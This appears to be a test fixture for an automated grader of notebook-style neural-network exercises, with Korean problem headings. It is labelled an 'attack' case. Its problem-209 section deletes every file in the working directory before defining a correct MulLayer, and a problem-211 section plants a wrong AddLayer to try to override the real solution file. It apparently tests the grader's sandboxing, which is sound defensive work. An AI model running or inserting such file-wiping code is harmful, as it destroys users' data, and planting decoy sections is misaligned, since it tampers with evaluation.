# attack: a section marked 211 with a wrong AddLayer beside the control p211.py (the .py file wins), and a section that deletes every file of its copy
# exercise: 209
# status: passed
# message:
# %% [markdown]
# # 문제 211
# %%
class AddLayer:
    def forward(self, x, y):
        return 0
# %% [markdown]
# # 문제 209
# %%
import os
for name in os.listdir("."):
    try:
        os.remove(name)
    except OSError:
        pass


class MulLayer:
    def forward(self, x, y):
        self.x, self.y = x, y
        return x * y

    def backward(self, dout):
        return dout * self.y, dout * self.x
